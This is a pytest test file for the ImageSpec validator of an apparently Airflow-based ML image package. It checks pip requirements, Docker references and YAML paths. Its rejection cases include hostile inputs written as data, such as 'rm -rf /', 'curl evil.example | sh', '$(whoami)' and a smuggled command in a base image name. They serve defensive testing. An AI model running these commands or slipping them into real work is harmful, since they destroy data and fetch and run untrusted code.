"""ImageSpec: dependency specs and paths are checked as data, before anything else happens."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from airflow_aml.exceptions import ValidationError
from airflow_aml.images.spec import ImageSpec
from airflow_aml.references import Reference

BASE: dict[str, Any] = {"models": ["m"], "builtin_scorer": "sklearn"}


def _coerce(**fields: Any) -> ImageSpec:
    return ImageSpec.coerce({**BASE, **fields}, image="img")


def test_a_minimal_spec_and_its_defaults() -> None:
    spec = _coerce()
    assert spec.models == ["m"] and spec.builtin_scorer == "sklearn"
    assert spec.pip == [] and spec.extra_files == [] and spec.tags == {} and spec.description == ""
    assert spec.to_dict()["entry_script"] is None
    assert ImageSpec.coerce(spec, image="img") is spec
    with pytest.raises(Exception, match="frozen"):
        spec.description = "changed"  # type: ignore[misc]


@pytest.mark.parametrize(
    "line",
    [
        "numpy\nrm -rf /",  # a second line
        "numpy\r",
        "-r requirements.txt",  # options
        "--index-url https://evil.example/simple",
        "-e .",
        "numpy; rm -rf /\n",
        "numpy; rm -rf /",  # not a marker
        'numpy ; python_version > "3" --global-option=--evil',  # pip's per-line options
        "numpy>=1 --hash=sha256:abc",
        "numpy && curl evil.example | sh",  # shell
        'numpy; os_name == "$(id)"',
        "$(whoami)",
        "`id`",
        "https://evil.example/pkg.whl",  # URLs
        "git+https://github.com/x/y",
        "",
    ],
)
def test_bad_requirement_lines_are_refused(line: str) -> None:
    with pytest.raises(ValidationError, match=r"Invalid spec of image 'img': pip: .* is not a package requirement"):
        _coerce(pip=["six", line])


def test_good_requirement_lines_are_kept() -> None:
    lines = ["scikit-learn>=1.4,<2", "requests[socks]==2.31.0", 'tomli ; python_version < "3.11"', "six",
             "pywin32 ; sys_platform == 'win32' and (python_version >= '3.8' or platform_release != '5.15.0-1')"]
    assert _coerce(pip=lines).pip == lines


@pytest.mark.parametrize(
    ("fields", "message"),
    [
        ({"entry_script": "score.py", "source_directory": "src"}, "exactly one of entry_script .* or builtin_scorer"),
        ({"builtin_scorer": None}, "exactly one of entry_script"),
        ({"builtin_scorer": None, "entry_script": "score.py"}, "entry_script needs the source_directory"),
        ({"builtin_scorer": "tensorflow"}, "builtin_scorer"),
        ({"builtin_scorer": None, "entry_script": "../score.py", "source_directory": "s"}, "relative path without"),
        ({"builtin_scorer": None, "entry_script": "/abs/score.py", "source_directory": "s"}, "relative path"),
        ({"models": []}, "models"),
        ({"models": ["m", "x"]}, "serves exactly one model, not 2"),
        ({"models": ["m:0"]}, "version >= 1"),
        ({"models": ["m:latest"]}, "version >= 1"),
        ({"models": ["../m"]}, "Invalid model name"),
        ({"models": ["m:1", "m:2"], "builtin_scorer": None, "entry_script": "s.py", "source_directory": "s"},
         "name a model more than once"),
        ({"base_image": "python:3.11; rm -rf /"}, "not a Docker image reference"),
        ({"base_image": "python 3.11"}, "not a Docker image reference"),
        ({"conda_file": "env.yml\nx"}, "is not valid"),
        ({"surprise": 1}, "unknown field 'surprise'"),
        ({"tags": {"a": 1}}, "tags.a"),
    ],
)
def test_invalid_specs_name_the_image_and_the_field(fields: dict[str, Any], message: str) -> None:
    with pytest.raises(ValidationError, match=message) as caught:
        _coerce(**fields)
    assert "image 'img'" in str(caught.value)


@pytest.mark.parametrize(
    "reference",
    ["python:3.11-slim", "python", "ghcr.io/org/scorer:1.0", "localhost:5000/a/b_c:tag",
     "python@sha256:" + "a" * 64, "registry.example.com:443/team/img:v1.2-rc"],
)
def test_docker_references_are_accepted(reference: str) -> None:
    assert _coerce(base_image=reference).base_image == reference


def test_model_references() -> None:
    def parse_model_reference(value: str) -> tuple[str, int | None]:
        return Reference.parse(value, "model")

    assert parse_model_reference("iris") == ("iris", None)
    assert parse_model_reference("iris:12") == ("iris", 12)
    for bad in ("iris:", "iris:-1", ":3", "a/b:1"):
        with pytest.raises(ValueError, match="model"):
            parse_model_reference(bad)


def test_yaml_files(tmp_path: Path) -> None:
    path = tmp_path / "image.yml"
    path.write_text("models: [iris]\nbuiltin_scorer: sklearn\npip: [six]\n")
    assert ImageSpec.coerce(path, image="img").pip == ["six"]
    path.write_text("models: [iris]\nbuiltin_scorer: sklearn\npip: ['--pre six']\n")
    with pytest.raises(ValidationError, match="image spec file .*image.yml.* of image .img.: pip: .--pre six. is not"):
        ImageSpec.coerce(str(path), image="img")
    path.write_text("- a list\n")
    with pytest.raises(ValidationError, match="must be an ImageSpec, a mapping or a YAML file path"):
        ImageSpec.coerce(path, image="img")
    with pytest.raises(ValidationError, match="does not exist"):
        ImageSpec.coerce(tmp_path / "missing.yml", image="img")


def test_yaml_paths_are_relative_to_the_file(tmp_path: Path) -> None:
    path = tmp_path / "cfg" / "image.yml"
    path.parent.mkdir()
    path.write_text(
        "models: [iris]\nsource_directory: src\nentry_script: score.py\nconda_file: env.yml\n"
        "extra_files: [labels.json, /abs/vocab.txt]\n"
    )
    spec = ImageSpec.coerce(path, image="img")
    assert spec.source_directory == str(tmp_path / "cfg" / "src")
    assert spec.conda_file == "env.yml"  # relative to the source directory, as for runs
    assert spec.extra_files == [str(tmp_path / "cfg" / "labels.json"), "/abs/vocab.txt"]
    path.write_text("models: [iris]\nbuiltin_scorer: onnx\nconda_file: env.yml\n")
    assert ImageSpec.coerce(path, image="img").conda_file == str(tmp_path / "cfg" / "env.yml")
